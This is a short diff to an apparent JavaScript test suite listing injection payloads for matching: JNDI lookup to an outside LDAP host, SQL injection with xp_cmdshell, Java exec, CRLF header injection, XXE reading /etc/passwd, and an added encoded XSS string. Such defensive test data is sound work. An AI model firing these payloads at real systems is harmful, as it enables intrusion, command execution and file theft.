@@ -58,6 +58,8 @@ describe('values in a match', () => {
     `$${'{jndi:ldap://203.0.113.5:1389/a}'}`,
     "WAITFOR DELAY '0:0:5'",
     "exec xp_cmdshell('whoami')",
+    '%3Cdetails+open+ontoggle%3Dalert%60xss%60%3E',
+    "SELECT o.id FROM orders o WHERE o.status = 'open'",
     "Runtime.getRuntime().exec('id')",
     'http%3A%2F%2Fevil.example%2F%0d%0aSet-Cookie:x=1',
     '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
